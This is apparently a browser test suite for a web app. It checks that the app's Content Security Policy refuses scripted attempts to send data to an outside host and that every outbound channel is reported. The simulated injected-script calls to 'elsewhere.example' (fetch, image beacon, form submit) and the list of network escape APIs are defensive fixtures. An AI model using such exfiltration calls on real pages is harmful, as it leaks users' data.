import { readdirSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { extname, join } from 'node:path';
import type { Browser, Page } from 'playwright';
import { afterAll, beforeAll, expect, inject, test } from 'vitest';
import { mediaTypes } from '../../scripts/headers.mjs';
import { launchBrowser } from '../support/browser';
import { takeFaults, waysOut } from '../support/faults';
import { newPerson } from '../support/person';
import { madeRecord } from '../verify/made';

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser.close());

interface TrustedTypes {
  readonly createPolicy: (name: string, rules: object) => unknown;
}

/** A host that sends no header but the type. */
const bareHost = async (): Promise<{ readonly url: string; readonly close: () => void }> => {
  const server = createServer((request, response) => {
    const { pathname } = new URL(request.url ?? '/', 'http://localhost');
    const path = pathname === '/' ? '/index.html' : pathname;
    response.writeHead(200, { 'Content-Type': mediaTypes[extname(path)] ?? '' }).end(readFileSync(join('dist', path)));
  });
  await new Promise<void>((listening) => server.listen(0, 'localhost', listening));
  return {
    url: `http://localhost:${(server.address() as { port: number }).port}`,
    close: () => server.close() && server.closeAllConnections(),
  };
};

/** How it is told that something beyond the app's own files was asked for, whether or not the policy let it go. */
const asked = 'asked of a network';

/** What an injected script would try, each with what of the policy forbids it. */
const attempts: Readonly<Record<string, (page: Page) => Promise<unknown>>> = {
  'style-src-attr inline': (page) => page.evaluate(() => document.body.setAttribute('style', 'display: none')),
  'require-trusted-types-for': (page) =>
    page.evaluate(() => {
      // oxlint-disable-next-line no-restricted-properties -- what the policy is there to refuse
      document.createElement('div').innerHTML = '<b>markup</b>';
    }),
  'trusted-types trusted-types-policy another': (page) =>
    page.evaluate(() =>
      (globalThis as unknown as { trustedTypes: TrustedTypes }).trustedTypes.createPolicy('another', {}),
    ),
  'connect-src https://elsewhere.example/': (page) => page.evaluate(() => fetch('https://elsewhere.example/?words')),
  'img-src https://elsewhere.example/': (page) =>
    page.evaluate(() => {
      new Image().src = 'https://elsewhere.example/?words';
    }),
  'form-action https://elsewhere.example/': (page) =>
    page.evaluate(() => {
      const form = document.body.appendChild(document.createElement('form'));
      form.action = 'https://elsewhere.example/';
      form.submit();
    }),
};

test('the page’s own policy is the header’s, but for who may frame it', async () => {
  const answer = await fetch(inject('url'));
  const page = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(await answer.text())?.[1];
  const header = answer.headers.get('content-security-policy');
  expect(page?.split('; ')).toEqual(header?.split('; ').filter((one) => one !== "frame-ancestors 'none'"));
});

test.for([
  { where: 'by the header and by the page', times: 2 },
  { where: 'by the page alone', times: 1 },
])('what is forbidden is refused, and counted: $where', async ({ times }) => {
  const host = times === 1 ? await bareHost() : undefined;
  const { context, page, faults } = await newPerson(browser);
  await page.goto(host?.url ?? inject('url'));
  await page.getByRole('button', { name: 'Start now' }).waitFor();
  expect(faults).toEqual([]);
  for (const [forbids, attempt] of Object.entries(attempts)) {
    await attempt(page).catch(() => undefined);
    await expect.poll(() => faults.filter((fault) => fault.startsWith(forbids)).length).toBe(times);
  }
  const forbidden = takeFaults().filter((fault) => !fault.startsWith(asked));
  expect(forbidden).toHaveLength(times * Object.keys(attempts).length);
  await context.close();
  host?.close();
});

test('whatever is asked of another host, or sent, is told of a page and of the service worker', async () => {
  const context = await browser.newContext({ bypassCSP: true });
  const page = await context.newPage();
  const [worker] = await Promise.all([context.waitForEvent('serviceworker'), page.goto(`${inject('url')}/#/this-app`)]);
  await page.evaluate(() => fetch('https://elsewhere.example/').catch(() => undefined));
  await page.evaluate(() => fetch('./', { method: 'POST', body: 'words' }));
  await worker.evaluate(() => fetch('./', { method: 'POST', body: 'words' }));
  const sent = `${asked}: POST ${inject('url')}/`;
  const told: string[] = [];
  await expect
    .poll(() => told.push(...takeFaults()) && told)
    .toEqual([`${asked}: GET https://elsewhere.example/`, sent, sent]);
  await context.close();
});

test('a worker that checks records and draws their pages is held to it by the header, and counted', async () => {
  const { context, page } = await newPerson(browser);
  await page.goto(`${inject('url')}/#/verify`);
  await page
    .getByLabel('Signed record (PDF)')
    .setInputFiles({ name: 'record.pdf', mimeType: 'application/pdf', buffer: Buffer.from(await madeRecord()) });
  await page.getByRole('button', { name: 'Check the record' }).click();
  await page.locator('canvas[aria-busy=false]').first().waitFor();
  const [worker] = page.workers();
  await worker?.evaluate(() => fetch('https://elsewhere.example/?words')).catch(() => undefined);
  await expect.poll(() => takeFaults()).toContain('connect-src https://elsewhere.example/?words in a worker');
  await context.close();
  takeFaults();
});

test('the service worker is held to it by the header, and counted', async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  const [worker] = await Promise.all([context.waitForEvent('serviceworker'), page.goto(`${inject('url')}/#/this-app`)]);
  await worker.evaluate(() => fetch('https://elsewhere.example/?words')).catch(() => undefined);
  await expect.poll(() => takeFaults()).toContain('connect-src https://elsewhere.example/?words in a worker');
  await context.close();
  takeFaults();
});

/** How each way out is taken: to the app's own origin, which the policy allows. */
const taking: Readonly<Record<string, string>> = {
  RTCPeerConnection: 'new RTCPeerConnection().close()',
  webkitRTCPeerConnection: 'new webkitRTCPeerConnection().close()',
  WebTransport: `(() => {
    const made = new WebTransport('https://localhost:9/');
    for (const end of [made.ready, made.closed]) end.catch(() => undefined);
  })()`,
  WebSocket: "new WebSocket(location.origin.replace('http', 'ws')).close()",
  WebSocketStream: "new WebSocketStream(location.origin.replace('http', 'ws')).opened.catch(() => undefined)",
  EventSource: "new EventSource('/').close()",
  sendBeacon: "navigator.sendBeacon('/', 'words')",
};

const told = (name: string): string => `a way out of the device: ${name}`;

test('a way out that is no request is told of a page and of a frame within it', async () => {
  const { context, page } = await newPerson(browser);
  await page.goto(inject('url'));
  await page.evaluate(() => document.body.appendChild(document.createElement('iframe')));
  expect(Object.keys(taking)).toEqual([...waysOut, 'sendBeacon']);
  for (const frame of page.frames())
    for (const [name, script] of Object.entries(taking)) {
      const isThere = await frame.evaluate((way) => way === 'sendBeacon' || way in globalThis, name);
      if (!isThere) continue;
      await frame.evaluate(script).catch(() => undefined); // a frame without an address has no origin to ask
      await expect.poll(() => takeFaults().filter((fault) => fault === told(name))).toEqual([told(name)]);
    }
  expect(page.frames()).toHaveLength(2);
  await context.close();
  takeFaults();
});

test('and of a worker and of the service worker', async () => {
  const context = await browser.newContext({ bypassCSP: true }); // so that a worker can be made that does nothing else
  const page = await context.newPage();
  const [keeping] = await Promise.all([
    context.waitForEvent('serviceworker'),
    page.goto(`${inject('url')}/#/this-app`),
  ]);
  const [idle] = await Promise.all([
    page.waitForEvent('worker'),
    page.evaluate(() => new Worker(URL.createObjectURL(new Blob(['']))) instanceof Worker),
  ]);
  for (const worker of [idle, keeping]) {
    await worker.evaluate(taking['WebSocket'] ?? '').catch(() => undefined); // a blob has no origin to ask
    await expect.poll(() => takeFaults()).toEqual([`${told('WebSocket')} in a worker`]);
  }
  await context.close();
});

test('no script of the app so much as names one', () => {
  const naming = new RegExp(String.raw`\b(${[...waysOut, 'sendBeacon'].join('|')})\b`, 'g');
  const scripts = readdirSync('dist', { recursive: true, encoding: 'utf8' }).filter((file) => /\.m?js$/.test(file));
  expect(scripts.length).toBeGreaterThan(20);
  const found = scripts.flatMap((file) =>
    (readFileSync(join('dist', file), 'utf8').match(naming) ?? []).map((name) => `${file}: ${name}`),
  );
  expect(found).toEqual([]);
});
